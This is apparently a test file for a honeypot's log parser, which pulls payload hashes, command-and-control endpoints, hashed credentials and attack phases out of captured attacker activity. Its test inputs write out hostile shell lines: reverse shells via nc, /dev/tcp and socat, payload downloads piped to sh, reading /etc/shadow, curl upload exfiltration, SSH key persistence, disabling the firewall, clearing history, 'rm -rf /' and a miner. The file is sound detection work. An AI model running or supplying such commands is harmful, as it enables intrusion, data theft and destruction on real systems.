import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { evidenceOf } from '../../protocols/attack_evidence.ts'

const EMPTY = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'
const HASH = 'a'.repeat(64)

const record = (event_type: string, fields: Record<string, unknown>, more: object = {}) => ({
  attacker_ip: '198.51.100.7',
  decky: 'web-01',
  service: 'ssh',
  event_type,
  fields,
  ...more,
})
const typed = (command: string) => evidenceOf(record('command', { command }, { service: 'bash' }))
const c2Of = (command: string) =>
  typed(command).flatMap(({ kind, value }) => (kind === 'c2' ? [value] : []))
const phasesOf = (command: string) =>
  typed(command).flatMap((one) => (one.kind === 'command' ? [one.phase] : []))

describe('evidence in a log record', () => {
  it('is the hash of a captured file, in lower case', () => {
    expect(evidenceOf(record('file_captured', { sha256: HASH.toUpperCase() }))).toEqual([
      { kind: 'payload', value: HASH },
    ])
  })

  it.each([
    ['is empty', EMPTY],
    ['has a hash that is none', 'zz'],
    ['has no hash', undefined],
  ])('is no payload where the file %s', (_, sha256) => {
    expect(evidenceOf(record('file_captured', { sha256 }))).toEqual([])
  })

  it('is where a download came from', () => {
    const fields = { sha256: HASH, url: 'http://Evil.Example:8080/x.sh' }
    expect(evidenceOf(record('file_captured', fields))).toEqual([
      { kind: 'payload', value: HASH },
      { kind: 'c2', value: 'evil.example:8080' },
    ])
  })

  it('is a login, with the hash of its secret and not the secret', () => {
    const found = evidenceOf(
      record('auth_attempt', { username: 'root', secret_b64: 'aHVudGVyMg==' }),
    )
    expect(found).toEqual([
      {
        kind: 'credential',
        value: '["root","f52fbd32b2b3b86ff88ef6c490628285f482af15ddcb29541f94bcf526a3f6c7"]',
        principal: 'root',
        secret_sha256: 'f52fbd32b2b3b86ff88ef6c490628285f482af15ddcb29541f94bcf526a3f6c7',
      },
    ])
  })

  it.each([
    ['an answer to a challenge', { secret_b64: 'aHVudGVyMg==', secret_kind: 'ntlmssp_v2' }],
    ['no base64', { secret_b64: '%%%' }],
  ])('is no credential where the secret is %s', (_, fields) => {
    expect(evidenceOf(record('auth_attempt', fields))).toEqual([])
  })

  it('is each simple command with its phase, blanks evened out', () => {
    expect(typed('cd /tmp;  uname   -a && chmod 777 x; ./x')).toEqual([
      { kind: 'command', value: 'uname -a', phase: 'discovery' },
      { kind: 'command', value: 'chmod 777 x', phase: 'execution' },
      { kind: 'command', value: './x', phase: 'execution' },
    ])
  })

  it('is found in the MSG of a shell command', () => {
    const msg = 'CMD uid=0 user=root src=198.51.100.7 pwd=/root cmd=cat /etc/shadow'
    expect(evidenceOf(record('command', {}, { service: 'bash', msg }))).toEqual([
      { kind: 'command', value: 'cat /etc/shadow', phase: 'credential_access' },
    ])
  })
})

describe('C2 endpoints of a command', () => {
  it.each([
    ['wget http://203.0.113.250/bins/arm7 -O - > dvrHelper', ['203.0.113.250']],
    ['/bin/busybox wget http://h.example:80/x', ['h.example']],
    ['wget https://h.example:8443/x', ['h.example:8443']],
    ['wget -q -O - h.example/x.sh | sh', ['h.example']],
    ['wget 203.0.113.250', ['203.0.113.250']],
    ['curl -fsSL -o x 203.0.113.250:81/i.sh', ['203.0.113.250:81']],
    ['curl http://user:pw@H.example/', ['h.example']],
    ['tftp -g -r x.sh 203.0.113.9', ['203.0.113.9']],
    ['tftp 203.0.113.9 -c get x.sh', ['203.0.113.9']],
    ['ftpget -v -u anonymous -p anonymous -P 2121 203.0.113.9 a a', ['203.0.113.9:2121']],
    ['nc -e /bin/sh 203.0.113.9 4444', ['203.0.113.9:4444']],
    ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', ['203.0.113.9:4444']],
    ['socat exec:sh tcp:203.0.113.9:9001', ['203.0.113.9:9001']],
    ['curl http://[2001:db8::7]:81/x', ['[2001:db8::7]:81']],
    ['wget x.sh', []],
    ['wget http://127.0.0.1/x; wget http://10.0.0.1/x; wget http://localhost/', []],
    ['wget http://198.51.100.7/own', []],
    ['curl http://web-01/', []],
    ['cat http.txt', []],
    ["echo 'wget http://203.0.113.1/a'; wget http://203.0.113.1/b", ['203.0.113.1']],
  ])('%s', (command, endpoints) => expect(c2Of(command)).toEqual(endpoints))

  it('are 16 of a line, at most', () => {
    const line = Array.from({ length: 40 }, (_, at) => `http://203.0.113.${at}/`).join(' ')
    expect(c2Of(line)).toHaveLength(16)
  })
})

describe('the phase of a command', () => {
  it.each([
    ['uname -a', ['discovery']],
    ['/bin/busybox cat /proc/cpuinfo', ['discovery']],
    ['crontab -l', ['persistence']],
    ['echo ssh-rsa AAAA >> ~/.ssh/authorized_keys', ['persistence']],
    ['systemctl enable x', ['persistence']],
    ['systemctl stop firewalld', ['defense_evasion']],
    ['sudo su', ['privilege_escalation']],
    ['chmod u+s x', ['privilege_escalation']],
    ['unset HISTFILE', ['defense_evasion']],
    ['rm -rf x', ['defense_evasion']],
    ['rm -rf /', ['impact']],
    ['nohup /tmp/x &', ['execution']],
    ['FOO=1 sh x', ['execution']],
    ['wget http://203.0.113.1/', ['command_and_control']],
    ['curl -T f http://203.0.113.1/', ['exfiltration']],
    ['ssh root@h', ['lateral_movement']],
    ['ssh -D 1080 h', ['pivoting']],
    ['tar czf x y', ['collection']],
    ['./xmrig -o stratum+tcp://pool.example:3333', ['impact']],
    ['cd /tmp; echo hi; frobnicate', []],
  ])('%s', (command, phases) => expect(phasesOf(command)).toEqual(phases))
})

it('throws for no record, and stays within bounds', () => {
  const text = fc.oneof(
    fc.string({ maxLength: 300, unit: 'binary' }),
    fc
      .array(
        fc.constantFrom(
          'wget',
          ' ',
          ';',
          "'",
          '"',
          '\\',
          '$(',
          '-O',
          'http://',
          'h.example',
          '/',
          '[',
          ':1',
        ),
      )
      .map((parts) => parts.join('')),
  )
  fc.assert(
    fc.property(
      fc.constantFrom('command', 'file_captured', 'auth_attempt', 'download_attempt', 'x'),
      fc.dictionary(fc.constantFrom('command', 'cmd', 'url', 'sha256', 'secret_b64', 'args'), text),
      text,
      (event_type, fields, msg) => {
        const found = evidenceOf(record(event_type, fields, { msg }))
        expect(found.length).toBeLessThanOrEqual(2 * 16 + 32 + 2)
        for (const { value } of found) expect(value.length).toBeLessThanOrEqual(600)
      },
    ),
  )
})
